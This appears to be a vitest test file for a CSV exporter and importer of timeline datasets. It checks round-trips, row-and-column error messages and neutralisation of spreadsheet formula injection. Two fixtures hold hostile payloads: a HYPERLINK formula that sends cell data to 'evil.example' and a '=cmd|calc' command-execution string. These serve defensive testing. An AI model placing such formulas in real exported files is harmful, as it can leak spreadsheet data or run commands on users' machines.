import { csvFormatRows, csvParseRows } from 'd3-dsv';
import fc from 'fast-check';
import { readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import { datasetArbitrary } from './arbitraries';
import { CSV_COLUMNS, csvToDataset, datasetToCsv, neutralise, restore } from './csv';
import { validateDataset, type Dataset } from './schema';
import { problemsOf } from './testing';

const seed = validateDataset(
	JSON.parse(readFileSync('data/timelines/iraq-coalition-exit.json', 'utf8')),
	'seed'
);

describe('datasetToCsv', () => {
	it('writes a header of the documented columns, then a dataset row, the sources, and each event followed by its quotes', () => {
		const lines = datasetToCsv(seed).split('\n');
		expect(lines[0]).toBe(CSV_COLUMNS.join(','));
		expect(lines[1].startsWith(`dataset,${seed.id},`)).toBe(true);
		const records = csvRecords(datasetToCsv(seed));
		const quotes = seed.events.reduce((n, e) => n + e.quotes.length, 0);
		expect(records).toEqual([
			'dataset',
			...seed.sources.map(() => 'source'),
			...seed.events.flatMap((e) => ['event', ...e.quotes.map(() => 'quote')])
		]);
		expect(records.filter((r) => r === 'quote').length).toBe(quotes);
	});
});

describe('csvToDataset', () => {
	it('reads the seed dataset back exactly, no-break spaces and curly apostrophes included', () => {
		expect(csvToDataset(datasetToCsv(seed))).toEqual(seed);
	});

	it('round-trips any valid dataset without losing a field', () => {
		fc.assert(
			fc.property(datasetArbitrary, (dataset) => {
				expect(csvToDataset(datasetToCsv(dataset))).toEqual(dataset);
			}),
			{ numRuns: 150 }
		);
	});

	it('round-trips any valid dataset whose texts start with formula characters, and no cell of its CSV starts with one', () => {
		fc.assert(
			fc.property(datasetArbitrary, formulaText, formulaText, (dataset, a, b) => {
				const risky = withFormulaTexts(dataset, a, b);
				const csv = datasetToCsv(risky);
				for (const cells of csvParseRows(csv)) {
					for (const cell of cells) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
				}
				expect(csvToDataset(csv)).toEqual(risky);
			}),
			{ numRuns: 150 }
		);
	});

	it('brings back an empty summary, description and resolution as empty, and absent ones as absent', () => {
		const dataset = structuredClone(seed);
		dataset.description = '';
		dataset.events[0].summary = '';
		dataset.events[0].resolution = '';
		delete dataset.events[1].resolution;
		expect(csvToDataset(datasetToCsv(dataset))).toEqual(dataset);
	});

	it('brings back a text of apostrophes only as itself, not as an empty field', () => {
		const dataset = structuredClone(seed);
		dataset.events[0].summary = "'";
		dataset.events[1].summary = "''";
		dataset.sources[0].author = "'";
		expect(csvToDataset(datasetToCsv(dataset))).toEqual(dataset);
	});

	it('reports a bad date by its spreadsheet row and column, in the words of the contract', () => {
		const table = csvParseRows(datasetToCsv(seed));
		const date = CSV_COLUMNS.indexOf('date');
		const row = table.findIndex((cells) => cells[0] === 'event');
		table[row][date] = 'soon';
		const problems = problemsOf(() => csvToDataset(csvFormatRows(table), 'events.csv'));
		expect(problems).toContainEqual(
			expect.stringMatching(
				new RegExp(`^row ${row + 1}, column "date": expected an EDTF date.*found "soon"`)
			)
		);
	});

	it('reports a quote that no longer matches its source at the quote row', () => {
		const table = csvParseRows(datasetToCsv(seed));
		const [start, end] = [CSV_COLUMNS.indexOf('quote_start'), CSV_COLUMNS.indexOf('quote_end')];
		const row = table.findIndex((cells) => cells[0] === 'quote');
		table[row][start] = String(Number(table[row][start]) + 1);
		table[row][end] = String(Number(table[row][end]) + 1);
		const problems = problemsOf(() => csvToDataset(csvFormatRows(table)));
		expect(problems[0]).toMatch(
			new RegExp(`^row ${row + 1}, column "text": expected the source text at`)
		);
	});

	it('refuses a table without the record column, naming the header', () => {
		const problems = problemsOf(() => csvToDataset('date,headline\n2014,Something\n'));
		expect(problems).toEqual([
			expect.stringMatching(/^row 1 \(the header\): .*missing "record" and "id"/)
		]);
	});

	it('refuses an unknown record kind and a quote of an unknown event, by row', () => {
		const csv = `record,id,title\ndataset,x,X\nsnack,y,Y\nquote,nope,\n`;
		expect(problemsOf(() => csvToDataset(csv))).toEqual([
			'row 3, column "record": expected one of dataset, source, event, quote, era, found "snack"',
			'row 4, column "id": expected the id of an event on an earlier row, found "nope"'
		]);
	});

	it('refuses entities that are not JSON arrays of names', () => {
		const csv = datasetToCsv({
			...seed,
			events: [{ ...seed.events[0], entities: { people: [], places: ['Iraq'], organizations: [] } }]
		}).replace('"[""Iraq""]"', 'Iraq');
		expect(problemsOf(() => csvToDataset(csv))[0]).toMatch(
			/^row 4, column "places": expected a JSON array/
		);
	});

	it('refuses an empty file', () => {
		expect(problemsOf(() => csvToDataset('\n\n'))).toEqual(['the file is empty']);
	});

	it('reads version 2 back: media, groups, eras, backgrounds, and the HTML TimelineJS had', () => {
		const dataset: Dataset = {
			...structuredClone(seed),
			version: 2,
			media: { type: 'link', url: 'https://example.org/cover', caption: '' },
			eras: [
				{
					title: 'Before',
					date: '-0499/2013',
					start: '-0499-01-01',
					end: '2013-12-31',
					precision: 'year'
				}
			]
		};
		dataset.events[0] = {
			...dataset.events[0],
			media: { type: 'image', url: 'https://example.org/a.jpg', alt: '=cmd|calc', credit: 'AP' },
			group: 'Politics',
			displayDate: 'Early 2014',
			background: { color: '#1a4d80' },
			timelinejs: { headline: '<b>ISIS</b> advances' }
		};
		const csv = datasetToCsv(dataset);
		expect(csv.split('\n')[0]).toContain('media_type,media_url,media_alt');
		expect(csvToDataset(csv)).toEqual(dataset);
	});

	it('reports a version 2 problem by its row and column: an image without alt text, an era off its days', () => {
		const dataset: Dataset = {
			...structuredClone(seed),
			version: 2,
			eras: [
				{ title: 'A', date: '2014', start: '2014-01-01', end: '2015-12-31', precision: 'year' }
			]
		};
		dataset.events[1].media = { type: 'image', url: 'https://example.org/a.jpg', alt: 'x' };
		const csv = datasetToCsv(dataset).replace(',x,', ',,');
		expect(problemsOf(() => csvToDataset(csv))).toEqual([
			expect.stringMatching(/^row \d+, column "media_alt": expected alt text describing the image/),
			'row 3, column "date": expected a date covering 2014-01-01 to 2015-12-31 (start/end), found "2014", which covers 2014-01-01 to 2014-12-31'
		]);
	});

	it('refuses a timelinejs cell that is not a JSON object of texts', () => {
		const dataset = structuredClone(seed) as Dataset;
		dataset.version = 2;
		dataset.events[0].timelinejs = { headline: 'x' };
		const csv = datasetToCsv(dataset).replace('"{""headline"":""x""}"', '[1]');
		expect(problemsOf(() => csvToDataset(csv))).toEqual([
			expect.stringMatching(/^row 4, column "timelinejs": expected a JSON object of texts/)
		]);
	});
});

/** Text that a spreadsheet would run as a formula, after any number of apostrophes. */
const formulaText = fc
	.tuple(
		fc.string({ unit: fc.constant("'"), maxLength: 2 }),
		fc.constantFrom('=', '+', '-', '@', '\t', '\r'),
		fc.string({ unit: 'grapheme', maxLength: 20 })
	)
	.map(([apostrophes, first, rest]) => apostrophes + first + rest + 'x');

/** The dataset with formula-like text in every free-text field, its quotes still exact. */
function withFormulaTexts(dataset: Dataset, a: string, b: string): Dataset {
	const sources = dataset.sources.map((s) => ({
		...s,
		title: a,
		publisher: b,
		author: a,
		text: a + s.text
	}));
	return {
		...dataset,
		title: a,
		description: b,
		sources,
		events: dataset.events.map((e) => ({
			...e,
			title: b,
			summary: a,
			resolution: b,
			entities: { people: [a], places: [b], organizations: [] },
			quotes: e.quotes.map((q) => {
				const start = q.start === 0 ? 0 : q.start + a.length;
				const text = sources.find((s) => s.id === q.source)!.text;
				return { ...q, start, end: q.end + a.length, text: text.slice(start, q.end + a.length) };
			})
		}))
	};
}

describe('CSV export against formula injection', () => {
	it('writes a cell that starts with = + - @, a tab or a carriage return behind an apostrophe', () => {
		const event = seed.events[0];
		const risky: Dataset = {
			...seed,
			events: [
				{
					...event,
					title: '=HYPERLINK("http://evil.example/?"&A1,"Click")',
					summary: '+1+2',
					resolution: '@SUM(A1)',
					entities: { people: ['-2+3'], places: ['\tTab'], organizations: ['\rCR'] }
				}
			]
		};
		const row = csvParseRows(datasetToCsv(risky)).find((cells) => cells[0] === 'event')!;
		const at = (column: (typeof CSV_COLUMNS)[number]) => row[CSV_COLUMNS.indexOf(column)];
		expect(at('title')).toBe(`'=HYPERLINK("http://evil.example/?"&A1,"Click")`);
		expect(at('summary')).toBe("'+1+2");
		expect(at('resolution')).toBe("'@SUM(A1)");
		// Entities are JSON arrays, so they start with "[" and are safe as they are.
		expect(at('people')).toBe('["-2+3"]');
		expect(csvToDataset(datasetToCsv(risky))).toEqual(risky);
	});

	it('removes exactly the apostrophe it added, and leaves other apostrophes alone', () => {
		expect(neutralise('=1')).toBe("'=1");
		expect(neutralise("'=1")).toBe("''=1");
		expect(neutralise("'quoted'")).toBe("'quoted'");
		expect(neutralise('plain = text')).toBe('plain = text');
		for (const value of ['=1', "'=1", "''\t", "'quoted'", "'", '', 'a-b']) {
			expect(restore(neutralise(value))).toBe(value);
		}
		// A person who typed the apostrophe in a spreadsheet meant the text after it.
		expect(restore("'=1")).toBe('=1');
	});
});

function csvRecords(csv: string): string[] {
	// The first cell of each record row; quoted multi-line cells never start a line with a kind.
	return csv
		.split('\n')
		.slice(1)
		.map((line) => /^(dataset|source|event|quote),/.exec(line)?.[1])
		.filter((kind): kind is string => !!kind);
}

describe('csvToDataset, for rows typed by hand', () => {
	it('derives start, end and precision from the date when they are left empty', () => {
		const source = datasetToCsv({ ...seed, events: [] });
		const csv = `${source}\nevent,troops-arrive,Troops arrive,2014-06\nevent,talks,Talks,2024-01-01/2024-01-07\n`;
		expect(csvToDataset(csv).events).toEqual([
			{
				id: 'troops-arrive',
				title: 'Troops arrive',
				date: '2014-06',
				start: '2014-06-01',
				end: '2014-06-30',
				precision: 'month',
				quotes: []
			},
			{
				id: 'talks',
				title: 'Talks',
				date: '2024-01-01/2024-01-07',
				start: '2024-01-01',
				end: '2024-01-07',
				precision: 'week',
				quotes: []
			}
		]);
	});

	it('names the row and column of a date that is not EDTF', () => {
		const csv = `record,id,title,date\ndataset,x,X,\nevent,e,E,soon\n`;
		expect(problemsOf(() => csvToDataset(csv))).toEqual([
			'row 3, column "date": expected an EDTF date such as 2014, 2020-01, 2023-10-07 or 2024-01-01/2024-01-07, found "soon"'
		]);
	});
});
